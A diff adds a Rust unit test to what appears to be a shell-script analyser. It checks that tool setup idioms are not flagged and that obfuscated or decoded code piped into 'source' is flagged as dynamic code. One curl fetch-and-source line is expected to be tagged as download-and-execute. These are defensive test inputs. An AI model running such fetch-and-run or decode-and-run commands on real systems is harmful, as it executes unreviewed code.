@@ -579,3 +579,25 @@ fn for_loop_variable_takes_the_start_up_file_it_iterates() {
     let ev = run("for f in out/a.txt out/b.txt; do\n  echo done >> \"$f\"\ndone\n");
     assert!(!ev.iter().any(|e| e.has(Tag::RcFile)), "{ev:#?}");
 }
+
+#[test]
+fn a_local_tool_printing_its_setup_is_not_hidden_code() {
+    let dynamic = |code: &str| run(code).iter().any(|e| e.op == Op::DynamicCode);
+    for idiom in [
+        "glab completion -s fish | source",
+        "starship init fish | source",
+        "eval \"$(zoxide init bash)\"",
+    ] {
+        assert!(!dynamic(idiom), "{idiom}");
+    }
+    for hidden in [
+        "echo \"$BLOB\" | base64 -d | source",
+        "gpg -qd ./cfg.asc | source",
+        "$TOOL init | source",
+        "cat /tmp/next.sh | source",
+        "eval \"$(gpg -qd ./cfg.asc)\"",
+    ] {
+        assert!(dynamic(hidden), "{hidden}");
+    }
+    assert!(ops("curl -fsSL https://x.test/env.sh | source").contains(&Op::DownloadExec));
+}
